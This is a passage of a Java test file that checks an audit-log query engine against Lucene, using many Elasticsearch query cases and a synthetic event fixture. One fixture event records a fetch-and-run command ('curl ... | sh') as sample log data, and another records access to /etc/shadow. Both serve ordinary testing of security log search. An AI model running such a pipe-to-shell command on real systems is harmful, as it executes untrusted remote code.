package org.auditml.engine.query;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import org.apache.lucene.analysis.Analyzer;
import org.apache.lucene.analysis.DelegatingAnalyzerWrapper;
import org.apache.lucene.analysis.core.KeywordAnalyzer;
import org.apache.lucene.analysis.standard.StandardAnalyzer;
import org.apache.lucene.document.Document;
import org.apache.lucene.document.DoublePoint;
import org.apache.lucene.document.Field;
import org.apache.lucene.document.InetAddressPoint;
import org.apache.lucene.document.LongPoint;
import org.apache.lucene.document.StringField;
import org.apache.lucene.document.TextField;
import org.apache.lucene.index.DirectoryReader;
import org.apache.lucene.index.IndexWriter;
import org.apache.lucene.index.IndexWriterConfig;
import org.apache.lucene.index.Term;
import org.apache.lucene.queryparser.classic.QueryParser;
import org.apache.lucene.queryparser.simple.SimpleQueryParser;
import org.apache.lucene.search.AutomatonQuery;
import org.apache.lucene.search.BooleanClause.Occur;
import org.apache.lucene.search.BooleanQuery;
import org.apache.lucene.search.IndexSearcher;
import org.apache.lucene.search.MatchAllDocsQuery;
import org.apache.lucene.search.MatchNoDocsQuery;
import org.apache.lucene.search.PrefixQuery;
import org.apache.lucene.search.Query;
import org.apache.lucene.search.RegexpQuery;
import org.apache.lucene.search.ScoreDoc;
import org.apache.lucene.search.TermInSetQuery;
import org.apache.lucene.search.TermQuery;
import org.apache.lucene.search.TermRangeQuery;
import org.apache.lucene.search.WildcardQuery;
import org.apache.lucene.store.ByteBuffersDirectory;
import org.apache.lucene.util.BytesRef;
import org.apache.lucene.util.QueryBuilder;
import org.apache.lucene.util.automaton.RegExp;
import org.auditml.engine.TestEvent;
import org.auditml.testkit.Corpus;
import org.junit.jupiter.api.Test;

import java.net.InetAddress;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Clock;
import java.time.Instant;
import java.time.ZoneOffset;
import java.util.ArrayList;
import java.util.Iterator;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.TreeSet;
import java.util.stream.Stream;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * The proof that datafeed queries mean what they mean in Elasticsearch: each query runs over the same events in
 * auditml and in an in-memory Lucene index built with Elasticsearch-like mappings (keyword: one term; text: the
 * standard analyzer with Elasticsearch's 100-position gap between values; numbers, dates and addresses: points), the
 * Lucene query written as Elasticsearch builds it; both must select the same events. Events: a small set made here,
 * the Auditbeat module's expected events (in the project), and Auditbeat's sample events (../shared, skipped where
 * absent).
 */
class QuerySemanticsTest {
    private static final ObjectMapper JSON = new ObjectMapper();
    private static final Instant NOW = Instant.parse("2021-01-20T10:30:00Z");
    private static final FieldMappings MAPPINGS = FieldMappings.ecs();
    private static final Analyzer TEXT = new DelegatingAnalyzerWrapper(DelegatingAnalyzerWrapper.PER_FIELD_REUSE_STRATEGY) {
        private final Analyzer standard = new StandardAnalyzer();

        @Override
        protected Analyzer getWrappedAnalyzer(String fieldName) {
            return standard;
        }

        @Override
        public int getPositionIncrementGap(String fieldName) {
            return 100; // Elasticsearch's position_increment_gap
        }
    };
    /** The search analyzer per field, as Elasticsearch's query parsers use it. */
    private static final Analyzer SEARCH = new DelegatingAnalyzerWrapper(DelegatingAnalyzerWrapper.PER_FIELD_REUSE_STRATEGY) {
        private final Analyzer standard = new StandardAnalyzer();
        private final Analyzer keyword = new KeywordAnalyzer();

        @Override
        protected Analyzer getWrappedAnalyzer(String fieldName) {
            return MAPPINGS.mapping(fieldName).type() == FieldType.TEXT ? standard : keyword;
        }
    };
    private static final QueryBuilder BUILDER = new QueryBuilder(SEARCH);

    /** A query in Elasticsearch's DSL and the Lucene query Elasticsearch makes of it. */
    record Case(String dsl, Query lucene) {
    }

    static final String OWN_EVENTS = """
            [{"@timestamp": "2021-01-17T09:00:00Z", "message": "Failed password for root from 10.0.0.5 port 22",
              "user": {"name": "root"}, "source": {"ip": "10.0.0.5", "port": 22}, "process": {"name": "sshd", "pid": 812,
              "command_line": "/usr/sbin/sshd -D -R", "interactive": false}, "event": {"category": ["authentication"],
              "outcome": "failure", "action": "user_login"}, "auditd": {"data": {"syscall": "execve", "terminal": "ssh"}}},
             {"@timestamp": "2021-01-19T23:59:59.999Z", "message": "Accepted publickey for Alice from 192.168.1.20",
              "user": {"name": "Alice"}, "source": {"ip": "192.168.1.20", "port": 50123}, "process": {"name": "sshd",
              "pid": 4242, "command_line": "sshd: alice [priv]"}, "event": {"category": ["authentication"],
              "outcome": "success"}, "tags": ["prod", "ssh"]},
             {"@timestamp": "2021-01-20T08:00:00Z", "message": "curl -s http://10.0.0.1/x | sh", "user": {"name": "www-data"},
              "process": {"name": "curl", "pid": 30001, "args": ["curl", "-s", "http://10.0.0.1/x"],
              "command_line": "curl -s http://10.0.0.1/x", "executable": "/usr/bin/curl", "interactive": true},
              "event": {"category": ["process"], "type": ["start"], "risk_score": 73.5},
              "destination": {"ip": "2001:db8::1"}, "auditd": {"data": {"syscall": "execve", "a0": "7ffd"}}},
             {"@timestamp": "2020-12-01T00:00:00Z", "message": "session opened for user jenkins by (uid=0)",
              "user": {"name": "jenkins", "id": "998"}, "process": {"name": "Jenkins-Agent", "pid": 7, "title": "java -jar agent.jar"},
              "event": {"category": ["session"], "action": "opened-session"}, "host": {"name": "ci-01", "ip": ["10.1.2.3", "fe80::1"]}},
             {"@timestamp": "2021-01-20T10:29:00Z", "message": "the quick brown fox jumps over the lazy dog",
              "process": {"name": "bash", "pid": 1, "working_directory": "/home/Bob Smith"},
              "user": {"name": "bob smith"}, "file": {"path": "/etc/shadow", "size": 1024}, "event": {"category": ["file"]}},
             {"@timestamp": "2021-01-18T12:00:00Z", "message": "",
              "process": {"name": "systemd"}, "event": {"category": ["process"], "type": ["info", "end"]},
              "auditd": {"summary": {"object": {"primary": "/usr/lib/systemd/systemd-Journald"}}}}]
            """;

    static List<Case> cases() {
        long now = NOW.toEpochMilli();
        long day = 86_400_000L;
        long startOfToday = Instant.parse("2021-01-20T00:00:00Z").toEpochMilli();
        return List.of(
                // match: analyzed on text, whole on keyword
                new Case("{\"match\": {\"message\": \"password publickey\"}}", text("message", "password publickey", Occur.SHOULD)),
                new Case("{\"match\": {\"message\": {\"query\": \"password publickey\", \"operator\": \"or\"}}}", text("message", "password publickey", Occur.SHOULD)),
                new Case("{\"match\": {\"message\": {\"query\": \"failed password\", \"operator\": \"and\"}}}", text("message", "failed password", Occur.MUST)),
                new Case("{\"match\": {\"message\": {\"query\": \"failed password root alice\", \"minimum_should_match\": \"50%\"}}}", msm(text("message", "failed password root alice", Occur.SHOULD), 2)),
                new Case("{\"match\": {\"message\": {\"query\": \"failed password root alice\", \"minimum_should_match\": \"-1\"}}}", msm(text("message", "failed password root alice", Occur.SHOULD), 3)),
                new Case("{\"match\": {\"message\": {\"query\": \"failed password root alice\", \"minimum_should_match\": \"-25%\"}}}", msm(text("message", "failed password root alice", Occur.SHOULD), 3)),
                new Case("{\"match\": {\"message\": {\"query\": \"for from root alice sh\", \"minimum_should_match\": \"2<60%\"}}}", msm(text("message", "for from root alice sh", Occur.SHOULD), 3)),
                new Case("{\"match\": {\"message\": {\"query\": \"for from\", \"minimum_should_match\": \"2<60%\"}}}", msm(text("message", "for from", Occur.SHOULD), 2)),
                new Case("{\"match\": {\"message\": {\"query\": \"the fox\", \"minimum_should_match\": 2}}}", msm(text("message", "the fox", Occur.SHOULD), 2)),
                new Case("{\"match\": {\"message\": {\"query\": \"...\", \"zero_terms_query\": \"all\"}}}", new MatchAllDocsQuery()),
                new Case("{\"match\": {\"message\": {\"query\": \"...\"}}}", new MatchNoDocsQuery()),
                new Case("{\"match\": {\"user.name\": \"Alice\"}}", kw("user.name", "Alice")),
                new Case("{\"match\": {\"user.name\": \"alice\"}}", kw("user.name", "alice")),
                new Case("{\"match\": {\"user.name.text\": \"alice smith\"}}", text("user.name.text", "alice smith", Occur.SHOULD)),
                new Case("{\"match\": {\"user.name\": \"bob smith\"}}", kw("user.name", "bob smith")),
                new Case("{\"match\": {\"process.command_line\": \"sshd\"}}", kw("process.command_line", "sshd")),
                new Case("{\"match\": {\"process.command_line.text\": \"sshd\"}}", text("process.command_line.text", "sshd", Occur.SHOULD)),
                new Case("{\"match\": {\"process.pid\": 4242}}", LongPoint.newExactQuery("process.pid", 4242)),
                new Case("{\"match\": {\"auditd.data.syscall\": \"EXECVE\"}}", text("auditd.data.syscall", "EXECVE", Occur.SHOULD)),
                // phrases
                new Case("{\"match_phrase\": {\"message\": \"failed password\"}}", BUILDER.createPhraseQuery("message", "failed password")),
                new Case("{\"match_phrase\": {\"message\": \"password failed\"}}", BUILDER.createPhraseQuery("message", "password failed")),
                new Case("{\"match_phrase\": {\"process.command_line.text\": \"curl -s http\"}}", BUILDER.createPhraseQuery("process.command_line.text", "curl -s http")),
                new Case("{\"match_phrase\": {\"user.name\": \"bob smith\"}}", kw("user.name", "bob smith")),
                new Case("{\"match_phrase_prefix\": {\"message\": \"quick bro\"}}", BUILDER.createPhraseQuery("message", "quick brown")),
                new Case("{\"match_phrase_prefix\": {\"message\": \"pass\"}}", new PrefixQuery(new Term("message", "pass"))),
                new Case("{\"match_phrase_prefix\": {\"process.name\": \"ss\"}}", new PrefixQuery(new Term("process.name", "ss"))),
                // multi_match
                new Case("{\"multi_match\": {\"query\": \"root jenkins\", \"fields\": [\"message\", \"user.name\"]}}", or(text("message", "root jenkins", Occur.SHOULD), kw("user.name", "root jenkins"))),
                new Case("{\"multi_match\": {\"query\": \"root jenkins\", \"fields\": [\"message\", \"user.name.text\"], \"type\": \"most_fields\", \"operator\": \"and\"}}", or(text("message", "root jenkins", Occur.MUST), text("user.name.text", "root jenkins", Occur.MUST))),
                new Case("{\"multi_match\": {\"query\": \"jenkins java\", \"fields\": [\"message\", \"process.title.text\"], \"type\": \"cross_fields\", \"operator\": \"and\"}}",
                        and(or(kw("message", "jenkins"), kw("process.title.text", "jenkins")), or(kw("message", "java"), kw("process.title.text", "java")))),
                new Case("{\"multi_match\": {\"query\": \"lazy dog\", \"fields\": [\"message\", \"process.command_line.text\"], \"type\": \"phrase\"}}", or(BUILDER.createPhraseQuery("message", "lazy dog"), BUILDER.createPhraseQuery("process.command_line.text", "lazy dog"))),
                // term-level
                new Case("{\"term\": {\"user.name\": \"alice\"}}", kw("user.name", "alice")),
                new Case("{\"term\": {\"user.name\": {\"value\": \"alice\", \"case_insensitive\": true}}}", ci("user.name", "alice")),
                new Case("{\"term\": {\"process.name\": {\"value\": \"JENKINS-agent\", \"case_insensitive\": true}}}", ci("process.name", "JENKINS-agent")),
                new Case("{\"term\": {\"message\": \"password\"}}", kw("message", "password")),
                new Case("{\"term\": {\"message\": \"Password\"}}", kw("message", "Password")),
                new Case("{\"term\": {\"event.category\": \"authentication\"}}", kw("event.category", "authentication")),
                new Case("{\"term\": {\"process.interactive\": true}}", kw("process.interactive", "T")),
                new Case("{\"term\": {\"process.interactive\": \"false\"}}", kw("process.interactive", "F")),
                new Case("{\"term\": {\"source.ip\": \"10.0.0.0/8\"}}", InetAddressPoint.newPrefixQuery("source.ip", ip("10.0.0.0"), 8)),
                new Case("{\"term\": {\"destination.ip\": \"2001:0db8:0:0:0:0:0:1\"}}", InetAddressPoint.newExactQuery("destination.ip", ip("2001:db8::1"))),
                new Case("{\"term\": {\"auditd.data.syscall.keyword\": \"execve\"}}", kw("auditd.data.syscall.keyword", "execve")),
                new Case("{\"terms\": {\"process.name\": [\"sshd\", \"curl\", \"nope\"]}}", or(kw("process.name", "sshd"), kw("process.name", "curl"), kw("process.name", "nope"))),
                new Case("{\"terms\": {\"process.pid\": [1, 812, \"4242\"]}}", LongPoint.newSetQuery("process.pid", 1, 812, 4242)),
                new Case("{\"ids\": {\"values\": [\"own-1\", \"own-3\"]}}", new TermInSetQuery("_id", List.of(new BytesRef("own-1"), new BytesRef("own-3")))),
                new Case("{\"exists\": {\"field\": \"user.name\"}}", exists("user.name")),
                new Case("{\"exists\": {\"field\": \"auditd.data.syscall\"}}", exists("auditd.data.syscall")),
                new Case("{\"exists\": {\"field\": \"tags\"}}", exists("tags")),
                new Case("{\"prefix\": {\"process.executable\": \"/usr/\"}}", new PrefixQuery(new Term("process.executable", "/usr/"))),
                new Case("{\"prefix\": {\"user.name\": {\"value\": \"AL\", \"case_insensitive\": true}}}", new AutomatonQuery(new Term("user.name", "AL"), CaseInsensitive.prefix("AL"))),
                new Case("{\"wildcard\": {\"process.name\": \"s*d\"}}", new WildcardQuery(new Term("process.name", "s*d"))),
                new Case("{\"wildcard\": {\"process.command_line\": {\"value\": \"*HTTP*\", \"case_insensitive\": true}}}", new AutomatonQuery(new Term("process.command_line", "*HTTP*"), CaseInsensitive.wildcard("*HTTP*", true))),
                new Case("{\"wildcard\": {\"message\": \"Pass?ord\"}}", new WildcardQuery(new Term("message", "pass?ord"))),
                new Case("{\"regexp\": {\"process.name\": \"s.*d|cur[a-z]\"}}", new RegexpQuery(new Term("process.name", "s.*d|cur[a-z]"))),
                new Case("{\"regexp\": {\"process.name\": {\"value\": \"jenkins.*\", \"case_insensitive\": true}}}", new RegexpQuery(new Term("process.name", "jenkins.*"), RegExp.ALL, RegExp.ASCII_CASE_INSENSITIVE, 10000)),
                new Case("{\"regexp\": {\"process.pid.keyword\": \"<1-900>\"}}", new MatchNoDocsQuery()),
                new Case("{\"regexp\": {\"auditd.summary.object.primary.keyword\": {\"value\": \"/usr/lib/.*<1-9>?\", \"flags\": \"INTERVAL\"}}}", new RegexpQuery(new Term("auditd.summary.object.primary.keyword", "/usr/lib/.*<1-9>?"), RegExp.INTERVAL)),
                // ranges
                new Case("{\"range\": {\"process.pid\": {\"gte\": 800, \"lt\": 4242}}}", LongPoint.newRangeQuery("process.pid", 800, 4241)),
                new Case("{\"range\": {\"process.pid\": {\"gt\": 6.5, \"lte\": 812.9}}}", LongPoint.newRangeQuery("process.pid", 7, 812)),
                new Case("{\"range\": {\"event.risk_score\": {\"gt\": 73}}}", DoublePoint.newRangeQuery("event.risk_score", Math.nextUp(73.0), Double.POSITIVE_INFINITY)),
                new Case("{\"range\": {\"source.ip\": {\"gte\": \"10.0.0.0\", \"lte\": \"10.255.255.255\"}}}", InetAddressPoint.newRangeQuery("source.ip", ip("10.0.0.0"), ip("10.255.255.255"))),
                new Case("{\"range\": {\"user.name\": {\"gte\": \"a\", \"lt\": \"s\"}}}", TermRangeQuery.newStringRange("user.name", "a", "s", true, false)),
                new Case("{\"range\": {\"@timestamp\": {\"gte\": \"now-1d/d\"}}}", LongPoint.newRangeQuery("@timestamp", startOfToday - day, Long.MAX_VALUE)),
                new Case("{\"range\": {\"@timestamp\": {\"gte\": \"now-30d\", \"lt\": \"now-1h\"}}}", LongPoint.newRangeQuery("@timestamp", now - 30 * day, now - 3_600_000 - 1)),
                new Case("{\"range\": {\"@timestamp\": {\"gt\": \"2021-01-18\", \"lte\": \"2021-01-19\"}}}", LongPoint.newRangeQuery("@timestamp", startOfToday - day, startOfToday - 1)),
                new Case("{\"range\": {\"@timestamp\": {\"gte\": \"17/01/2021\", \"lt\": \"20/01/2021\", \"format\": \"dd/MM/yyyy\", \"time_zone\": \"+01:00\"}}}", LongPoint.newRangeQuery("@timestamp", startOfToday - 3 * day - 3_600_000, startOfToday - 3_600_000 - 1)),
                new Case("{\"range\": {\"@timestamp\": {\"lt\": \"now/d\", \"time_zone\": \"-05:00\"}}}", LongPoint.newRangeQuery("@timestamp", Long.MIN_VALUE, Instant.parse("2021-01-20T05:00:00Z").toEpochMilli() - 1)),
                new Case("{\"range\": {\"@timestamp\": {\"gte\": \"2021-01-19||+1d/d\"}}}", LongPoint.newRangeQuery("@timestamp", startOfToday, Long.MAX_VALUE)),
                new Case("{\"range\": {\"message\": {\"gt\": \"password\", \"lte\": \"root\"}}}", TermRangeQuery.newStringRange("message", "password", "root", false, true)),
                new Case("{\"range\": {\"destination.ip\": {\"gt\": \"2001:db8::\"}}}", InetAddressPoint.newRangeQuery("destination.ip", InetAddressPoint.nextUp(ip("2001:db8::")), InetAddressPoint.MAX_VALUE)),
                new Case("{\"range\": {\"file.size\": {\"gte\": \"1024\"}}}", LongPoint.newRangeQuery("file.size", 1024, Long.MAX_VALUE)),
                new Case("{\"range\": {\"auditd.sequence\": {\"gte\": \"1000\"}}}", TermRangeQuery.newStringRange("auditd.sequence", "1000", null, true, true)),
                new Case("{\"terms\": {\"message\": [\"fox\", \"Password\", \"sh\"]}}", or(kw("message", "fox"), kw("message", "Password"), kw("message", "sh"))),
                new Case("{\"term\": {\"host.ip\": \"fe80::1\"}}", InetAddressPoint.newExactQuery("host.ip", ip("fe80::1"))),
                new Case("{\"term\": {\"@timestamp\": \"2021-01-20T08:00:00Z\"}}", LongPoint.newExactQuery("@timestamp", Instant.parse("2021-01-20T08:00:00Z").toEpochMilli())),
                new Case("{\"regexp\": {\"message\": \"pass(word)?|f.x\"}}", new RegexpQuery(new Term("message", "pass(word)?|f.x"))),
                new Case("{\"match\": {\"process.pid\": {\"query\": \"abc\", \"lenient\": true}}}", new MatchNoDocsQuery()),
                new Case("{\"match\": {\"process.interactive\": \"true\"}}", kw("process.interactive", "T")),
                new Case("{\"multi_match\": {\"query\": \"/usr/sbin/ss\", \"fields\": [\"process.command_line.text\", \"message\"], \"type\": \"phrase_prefix\"}}", or(BUILDER.createPhraseQuery("process.command_line.text", "usr sbin sshd"))),
                new Case("{\"match_phrase_prefix\": {\"auditd.summary.object.primary\": \"usr lib systemd systemd-j\"}}", BUILDER.createPhraseQuery("auditd.summary.object.primary", "usr lib systemd systemd journald")),
                new Case("{\"query_string\": {\"query\": \"@timestamp:[now-1d TO now] AND NOT user.name:root\"}}", new BooleanQuery.Builder().add(LongPoint.newRangeQuery("@timestamp", now - day, now), Occur.MUST).add(kw("user.name", "root"), Occur.MUST_NOT).build()),
                new Case("{\"query_string\": {\"query\": \"process.command_line:*curl* OR event.category:(session OR file)\"}}", classic("process.command_line:*curl* OR event.category:(session OR file)", "message", QueryParser.Operator.OR)),
                new Case("{\"query_string\": {\"query\": \"source.ip:\\\"10.0.0.0/8\\\"\"}}", InetAddressPoint.newPrefixQuery("source.ip", ip("10.0.0.0"), 8)),
                new Case("{\"query_string\": {\"query\": \"auditd.data.syscall:EXECVE AND process.pid:>1000\"}}", new BooleanQuery.Builder().add(kw("auditd.data.syscall", "execve"), Occur.MUST).add(LongPoint.newRangeQuery("process.pid", 1001, Long.MAX_VALUE), Occur.MUST).build()),
                // compound
                new Case("{\"bool\": {\"should\": [{\"term\": {\"process.name\": \"sshd\"}}, {\"term\": {\"user.name\": \"root\"}}, {\"exists\": {\"field\": \"tags\"}}], \"minimum_should_match\": 2}}",
                        msm(or(kw("process.name", "sshd"), kw("user.name", "root"), exists("tags")), 2)),
                new Case("{\"bool\": {\"filter\": {\"term\": {\"event.category\": \"process\"}}, \"should\": [{\"term\": {\"process.name\": \"curl\"}}]}}", new BooleanQuery.Builder().add(kw("event.category", "process"), Occur.FILTER).add(kw("process.name", "curl"), Occur.SHOULD).build()),
                new Case("{\"bool\": {\"must_not\": [{\"term\": {\"process.name\": \"sshd\"}}, {\"exists\": {\"field\": \"source\"}}]}}", new BooleanQuery.Builder().add(new MatchAllDocsQuery(), Occur.FILTER).add(kw("process.name", "sshd"), Occur.MUST_NOT).add(exists("source"), Occur.MUST_NOT).build()),
                new Case("{\"bool\": {\"must\": [{\"match\": {\"message\": \"for\"}}, {\"bool\": {\"should\": [{\"term\": {\"user.name\": \"root\"}}, {\"term\": {\"user.name\": \"jenkins\"}}]}}], \"must_not\": {\"range\": {\"process.pid\": {\"lt\": 10}}}}}",
                        new BooleanQuery.Builder().add(kw("message", "for"), Occur.MUST).add(or(kw("user.name", "root"), kw("user.name", "jenkins")), Occur.MUST).add(LongPoint.newRangeQuery("process.pid", Long.MIN_VALUE, 9), Occur.MUST_NOT).build()),
                new Case("{\"bool\": {}}", new MatchAllDocsQuery()),
                new Case("{\"constant_score\": {\"filter\": {\"terms\": {\"event.category\": [\"file\", \"session\"]}}, \"boost\": 1.2}}", or(kw("event.category", "file"), kw("event.category", "session"))),
                new Case("{\"dis_max\": {\"queries\": [{\"term\": {\"user.id\": \"998\"}}, {\"match\": {\"message\": \"fox\"}}]}}", or(kw("user.id", "998"), kw("message", "fox"))),
                new Case("{\"match_all\": {\"boost\": 2}}", new MatchAllDocsQuery()),
                new Case("{\"match_none\": {}}", new MatchNoDocsQuery()),
                // Lucene syntax, parsed by Lucene's parsers on both sides
                new Case("{\"query_string\": {\"query\": \"user.name:root OR process.name:curl\"}}", classic("user.name:root OR process.name:curl", "message", QueryParser.Operator.OR)),
                new Case("{\"query_string\": {\"query\": \"failed password\", \"default_field\": \"message\", \"default_operator\": \"AND\"}}", classic("failed password", "message", QueryParser.Operator.AND)),
                new Case("{\"query_string\": {\"query\": \"\\\"quick brown\\\" AND -user.name:root\", \"default_field\": \"message\"}}", classic("\"quick brown\" AND -user.name:root", "message", QueryParser.Operator.OR)),
                new Case("{\"query_string\": {\"query\": \"process.name:s* AND NOT event.outcome:failure\"}}", classic("process.name:s* AND NOT event.outcome:failure", "message", QueryParser.Operator.OR)),
                new Case("{\"query_string\": {\"query\": \"-process.name:sshd\"}}", new BooleanQuery.Builder().add(new MatchAllDocsQuery(), Occur.FILTER).add(kw("process.name", "sshd"), Occur.MUST_NOT).build()),
                new Case("{\"query_string\": {\"query\": \"message:/pass.*/ OR user.name:[a TO c]\"}}", classic("message:/pass.*/ OR user.name:[a TO c]", "message", QueryParser.Operator.OR)),
                new Case("{\"query_string\": {\"query\": \"_exists_:tags OR process.name:Jenkins*\"}}", or(exists("tags"), new WildcardQuery(new Term("process.name", "Jenkins*")))),
                new Case("{\"query_string\": {\"query\": \"process.pid:[1 TO 1000] AND user.name:*\"}}", new BooleanQuery.Builder().add(LongPoint.newRangeQuery("process.pid", 1, 1000), Occur.MUST).add(new WildcardQuery(new Term("user.name", "*")), Occur.MUST).build()),
                new Case("{\"query_string\": {\"query\": \"root alice jenkins\", \"fields\": [\"user.name.text\", \"message\"], \"minimum_should_match\": \"2\"}}", msmClassic("root alice jenkins", 2, "user.name.text", "message")),
                new Case("{\"simple_query_string\": {\"query\": \"password -root\", \"fields\": [\"message\"]}}", simple("password -root", Occur.SHOULD, "message")),
                new Case("{\"simple_query_string\": {\"query\": \"\\\"lazy dog\\\" | sess*\", \"fields\": [\"message\", \"user.name\"], \"default_operator\": \"and\"}}", simple("\"lazy dog\" | sess*", Occur.MUST, "message", "user.name")),
                new Case("{\"simple_query_string\": {\"query\": \"curl +http\", \"fields\": [\"process.command_line.text\"]}}", simple("curl +http", Occur.SHOULD, "process.command_line.text")));
    }

    @Test
    void everyQuery_selectsTheSameEventsAsLucene_onOwnAndModuleEvents() throws Exception {
        List<TestEvent> events = new ArrayList<>(events(JSON.readTree(OWN_EVENTS), "own"));
        try (Stream<Path> files = Files.list(Corpus.dir("auditbeat-module-testdata"))) {
            for (Path f : files.filter(p -> p.toString().endsWith("-expected.json")).sorted().toList()) {
                events.addAll(events(JSON.readTree(f.toFile()), f.getFileName().toString()));
            }
        }
        Report r = compare(events);
        System.out.println("query semantics: " + r.queries + " queries x " + events.size() + " events compared, "
                + r.discriminating + " queries select some but not all");
        assertThat(r.divergences).isEmpty();
        assertThat(r.discriminating).isGreaterThanOrEqualTo(r.queries * 3 / 4);
    }

    @Test
    void everyQuery_selectsTheSameEventsAsLucene_onAuditbeatSampleEvents() throws Exception {
        Path dir = Corpus.root().resolve("auditbeat-sample-events");
        List<TestEvent> events = new ArrayList<>();
        try (Stream<Path> files = Files.list(dir)) {
            for (Path f : files.sorted().toList()) {
                for (String line : f.toString().endsWith(".ndjson") ? Files.readAllLines(f) : List.of(Files.readString(f))) {
                    if (!line.isBlank()) {
                        events.addAll(events(JSON.readTree(line), f.getFileName().toString()));
                    }
                }
            }
        }
        Report r = compare(events);
        System.out.println("query semantics: " + r.queries + " queries x " + events.size() + " sample events compared");
        assertThat(r.divergences).isEmpty();
    }

    @Test
    void namedCases_matchAsTheIssueRequires() throws Exception {
        List<TestEvent> own = events(JSON.readTree(OWN_EVENTS), "own");
        assertThat(ids(own, "{\"match\": {\"message\": {\"query\": \"password publickey\", \"operator\": \"or\"}}}"))
                .containsExactly("own-0", "own-1");
        assertThat(ids(own, "{\"match\": {\"message\": {\"query\": \"password publickey alice root\", \"minimum_should_match\": \"50%\"}}}"))
                .containsExactly("own-0", "own-1");
        assertThat(ids(own, "{\"match\": {\"message\": {\"query\": \"failed password root alice\", \"minimum_should_match\": \"50%\"}}}"))
                .containsExactly("own-0");
        assertThat(ids(own, "{\"term\": {\"user.name\": {\"value\": \"alice\", \"case_insensitive\": true}}}"))
                .containsExactly("own-1");
        assertThat(ids(own, "{\"term\": {\"user.name\": \"alice\"}}")).isEmpty();
    }

    private static Set<String> ids(List<TestEvent> events, String dsl) throws Exception {
        EventQuery q = EventQuery.of(JSON.readTree(dsl), "query", MAPPINGS, Clock.fixed(NOW, ZoneOffset.UTC));
        Set<String> out = new TreeSet<>();
        events.stream().filter(q::matches).forEach(e -> out.add(e.field("_id")));
        return out;
    }

    record Report(int queries, int discriminating, List<String> divergences) {
    }

    private static Report compare(List<TestEvent> events) throws Exception {
        ByteBuffersDirectory dir = new ByteBuffersDirectory();
        try (IndexWriter w = new IndexWriter(dir, new IndexWriterConfig(TEXT))) {
            for (TestEvent e : events) {
                w.addDocument(document(e));
            }
        }
        List<String> divergences = new ArrayList<>();
        int discriminating = 0;
        List<Case> cases = cases();
        try (DirectoryReader reader = DirectoryReader.open(dir)) {
            IndexSearcher searcher = new IndexSearcher(reader);
            for (Case c : cases) {
                Set<String> lucene = new TreeSet<>();
                for (ScoreDoc d : searcher.search(c.lucene(), events.size() + 1).scoreDocs) {
                    lucene.add(searcher.storedFields().document(d.doc).get("_id"));
                }
                Set<String> auditml = ids(events, c.dsl());
                if (!auditml.equals(lucene)) {
                    divergences.add(c.dsl() + "\n  auditml: " + auditml + "\n  lucene:  " + lucene);
                }
                if (!lucene.isEmpty() && lucene.size() < events.size()) {
                    discriminating++;
                }
            }
        }
        return new Report(cases.size(), discriminating, divergences);
    }

    /** The event's document, each field indexed as Elasticsearch maps it, multi-fields included. */
    private static Document document(TestEvent e) {
        Document doc = new Document();
        for (Map.Entry<String, List<String>> f : e.fields().entrySet()) {
            String name = f.getKey();
            index(doc, name, f.getValue());
            for (String sub : List.of("text", "keyword")) {
                FieldMappings.Mapping m = MAPPINGS.mapping(name + "." + sub);
                if (m.source().equals(name) && (MAPPINGS.declared(name + "." + sub) || !MAPPINGS.declared(name))) {
                    index(doc, name + "." + sub, f.getValue());
                }
            }
        }
        doc.add(new StringField("_id", e.field("_id"), Field.Store.YES));
        return doc;
    }

    private static void index(Document doc, String name, List<String> values) {
        FieldMappings.Mapping m = MAPPINGS.mapping(name);
        boolean any = false;
        for (String v : values) {
            switch (m.type()) {
                case KEYWORD, WILDCARD -> {
                    if (m.ignoreAbove() == 0 || v.length() <= m.ignoreAbove()) {
                        doc.add(new StringField(name, v, Field.Store.NO));
                        any = true;
                    }
                }
                case TEXT -> {
                    doc.add(new TextField(name, v, Field.Store.NO));
                    any = true;
                }
                case BOOLEAN -> {
                    doc.add(new StringField(name, v.equals("true") ? "T" : "F", Field.Store.NO));
                    any = true;
                }
                case LONG -> {
                    doc.add(new LongPoint(name, (long) Double.parseDouble(v)));
                    any = true;
                }
                case DOUBLE -> {
                    doc.add(new DoublePoint(name, Double.parseDouble(v)));
                    any = true;
                }
                case DATE -> {
                    doc.add(new LongPoint(name, Instant.parse(v).toEpochMilli()));
                    any = true;
                }
                case IP -> {
                    doc.add(new InetAddressPoint(name, ip(v)));
                    any = true;
                }
                default -> {
                    // objects: only their existence
                }
            }
        }
        if (any || m.type() == FieldType.OTHER) {
            // Elasticsearch's _field_names: what exists answers from; parents of a field exist too
            for (String p = name; ; p = p.substring(0, p.lastIndexOf('.'))) {
                doc.add(new StringField("_exists_", p, Field.Store.NO));
                if (p.indexOf('.') < 0) {
                    break;
                }
            }
        }
    }

    /** Flattens events to dotted fields, as Elasticsearch flattens objects; each gets an _id and a @timestamp. */
    static List<TestEvent> events(JsonNode root, String source) {
        List<TestEvent> out = new ArrayList<>();
        List<JsonNode> docs = new ArrayList<>();
        if (root.isArray()) {
            root.forEach(docs::add);
        } else {
            docs.add(root);
        }
        for (int i = 0; i < docs.size(); i++) {
            Map<String, List<String>> fields = new LinkedHashMap<>();
            flatten("", docs.get(i), fields);
            fields.remove("@metadata");
            fields.keySet().removeIf(k -> k.startsWith("@metadata."));
            fields.computeIfAbsent("@timestamp", k -> List.of("2021-01-15T00:00:00Z"));
            String id = source.equals("own") ? "own-" + i : source + "-" + i;
            fields.put("_id", List.of(id));
            out.add(new TestEvent(Instant.parse(fields.get("@timestamp").get(0)).toEpochMilli(), fields));
        }
        return out;
    }

    private static void flatten(String prefix, JsonNode node, Map<String, List<String>> out) {
        if (node.isObject()) {
            for (Iterator<Map.Entry<String, JsonNode>> it = node.fields(); it.hasNext(); ) {
                Map.Entry<String, JsonNode> f = it.next();
                flatten(prefix.isEmpty() ? f.getKey() : prefix + "." + f.getKey(), f.getValue(), out);
            }
        } else if (node.isArray()) {
            node.forEach(n -> flatten(prefix, n, out));
        } else if (!node.isNull()) {
            List<String> values = out.computeIfAbsent(prefix, k -> new ArrayList<>());
            values.add(node.asText());
        }
    }

    private static Query kw(String field, String value) {
        return new TermQuery(new Term(field, value));
    }

    private static Query ci(String field, String value) {
        return new RegexpQuery(new Term(field, value.replaceAll("[^A-Za-z0-9]", "\\\\$0")), RegExp.NONE,
                RegExp.ASCII_CASE_INSENSITIVE, 10000);
    }

    private static Query exists(String field) {
